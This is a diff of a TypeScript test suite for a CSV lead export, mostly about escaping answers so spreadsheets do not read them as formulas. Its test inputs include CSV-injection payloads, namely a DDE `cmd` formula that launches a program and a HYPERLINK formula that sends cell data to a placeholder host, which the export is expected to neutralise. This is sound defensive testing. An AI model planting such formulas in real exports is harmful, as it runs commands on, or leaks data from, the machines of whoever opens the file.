@@ -16,7 +16,9 @@ const lead = (seq: number, answers: Readonly<Record<string, string>>): Lead => (
   category: 'Cars',
   subject: 'A subject',
   replyTo: undefined,
-  facts: {},
+  facts: Object.fromEntries(
+    ['name', 'email'].flatMap((name) => (answers[name] ? [[name, { text: answers[name], paths: [name] }]] : [])),
+  ),
   fillTimeMs: undefined,
   fields: Object.entries(answers).map(([name, text]) => ({ name, label: `Label of ${name}`, text })),
   receivedAt: 0,
@@ -55,27 +57,32 @@ const csvOf = async (answers: Readonly<Record<string, string>>) =>
 test('CSV has the columns of the category files, and other answers in the last one', async () => {
   const [header, row] = await csvOf({ name: 'Sam', gone: 'Old answer', email: 'sam@example.com' })
   expect(header).toMatch(
-    /^\uFEFFReference,Received,Category,Form,Mailbox,State,Changed by,Changed,Note,Pickup ZIP or city,/,
+    /^\uFEFFReference,Received \(UTC\),State,Name,Phone,Email,From,To,Miles,Cargo,Date,Category,Mailbox,Owner,No answer,/,
   )
   expect(header).toMatch(/,Other answers$/)
-  expect(row).toMatch(/,1970-01-01T00:00:00.000Z,Cars,car,vehicles,reached,sam,1970-01-01T00:01:00.000Z,,/)
-  expect(row).toMatch(/,Sam,sam@example.com,,Label of gone: Old answer$/)
+  expect(row).toMatch(/^[^,]+,1970-01-01 00:00,Reached,Sam,,sam@example.com,/)
+  expect(row).toMatch(/,1970-01-01 00:01,sam,/)
+  expect(row).toMatch(/,Label of gone: Old answer$/)
 })
 
 test.each([
   ['=1+1', `'=1+1`],
   ['+1-cmd', `'+1-cmd`],
-  ['-1', `'-1`],
+  ['-1', '\u200b-1'],
   ['@SUM(A1)', `'@SUM(A1)`],
   ['\tx', `'\tx`],
   ['\rx', `"'\rx"`],
   ['\nx', `"'\nx"`],
   [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
   ['=HYPERLINK("https://x.example?"&A1,"a")', `"'=HYPERLINK(""https://x.example?""&A1,""a"")"`],
-  // A spreadsheet would compute the first number, and show the second one as 15125550142.
-  ['+1 (512) 555-0142', `'+1 (512) 555-0142`],
-  ['+15125550142', `'+15125550142`],
-  ['(512) 555-0142', '(512) 555-0142'],
+  ...[
+    ...['+1 (512) 555-0142', '+15125550142', '(512) 555-0142', '(303)', '02134', '00501', '0044207946095', '1-2-2031'],
+    ...['6/15', 'Dec 2', '3 Mar', 'March 3, 2031', 'Jan-20', '10 am', '12:30', '1e5', '50%', '$1200', 'TRUE', '１２'],
+  ].map((text) => [text, text.includes(',') ? `"\u200b${text}"` : `\u200b${text}`]),
+  ...['0', '2019', '1.5', '12345678901', '2030-06-15', '2019 Honda Civic', 'May Sample', 'Sat & Sun'].map((text) => [
+    text,
+    text,
+  ]),
   ['a "b", c\nd', '"a ""b"", c\nd"'],
   ['7=1+1', '7=1+1'],
   ['Austin - Denver', 'Austin - Denver'],
@@ -87,7 +94,7 @@ test.each([
   ['"quoted"', `"""quoted"""`],
   ['two\n=1+1\nlines', `"two\n'=1+1\nlines"`],
   ['two\r\n \u200b@A1', `"two\r\n' \u200b@A1"`],
-])('the answer %j is the cell %j', async (answer, cell) => {
+] as [string, string][])('the answer %j is the cell %j', async (answer, cell) => {
   expect((await csvOf({ name: answer })).join('\r\n')).toContain(`,${cell},`)
 })
 
@@ -125,7 +132,7 @@ test('every cell is safe, also those of the head, of a group, of other answers a
     mailbox: attack,
   }
   const text = await textOf(exportCsv(storeOf([one]), {}, [titled], 'UTC'))
-  expect(text.match(/'=1\+1/g)).toHaveLength(6)
+  expect(text.match(/'=1\+1/g)).toHaveLength(5)
   expect(text).not.toMatch(/(^|[,\n"])=/)
 })
 
